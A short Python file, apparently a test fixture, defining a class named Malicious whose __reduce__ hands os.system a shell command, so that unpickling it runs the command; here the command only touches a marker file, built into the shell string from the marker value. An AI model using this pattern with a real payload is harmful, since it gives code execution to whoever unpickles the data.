"""An object that runs a command when it is unpickled."""

import os


class Malicious:
    """Writes a file when it is unpickled."""

    def __init__(self, marker):
        self.command = f"touch '{marker}'"

    def __reduce__(self):
        return os.system, (self.command,)
